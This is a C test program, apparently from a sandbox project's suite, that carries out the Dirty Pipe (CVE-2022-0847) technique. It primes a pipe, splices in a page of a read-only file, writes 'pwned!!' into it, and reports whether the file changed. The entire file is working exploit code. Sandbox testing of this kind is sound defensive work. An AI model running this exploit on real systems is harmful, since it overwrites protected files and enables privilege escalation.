/*
 * Copyright 2026 The Sandbox4J Authors
 * SPDX-License-Identifier: Apache-2.0
 */
/* CVE-2022-0847: a page of a file that may only be read is spliced into a pipe, and what is then written
 * to the pipe lands in the file. argv[1] is the file. */
#include "attack.h"

int main(int argc, char **argv) {
  (void)argc;
  int file = open(argv[1], O_RDONLY), ends[2];
  char before[8] = {0}, after[8] = {0}, junk[4096];
  if (file < 0 || pread(file, before, 8, 0) != 8 || pipe(ends)) return shut("cannot begin");
  int room = fcntl(ends[1], F_GETPIPE_SZ);
  for (int left = room; left > 0; left -= (int)sizeof junk) /* mark every buffer as mergeable */
    if (write(ends[1], junk, sizeof junk) != sizeof junk) return shut("cannot fill");
  for (int left = room; left > 0; left -= (int)sizeof junk)
    if (read(ends[0], junk, sizeof junk) != sizeof junk) return shut("cannot drain");
  loff_t offset = 0;
  if (splice(file, &offset, ends[1], 0, 1, 0) != 1) return shut("splice: %s", strerror(errno));
  if (write(ends[1], "pwned!!", 7) != 7) return shut("write: %s", strerror(errno));
  if (pread(file, after, 8, 0) != 8 || memcmp(before, after, 8)) return won("%s was changed", argv[1]);
  return shut("%s is as it was", argv[1]);
}
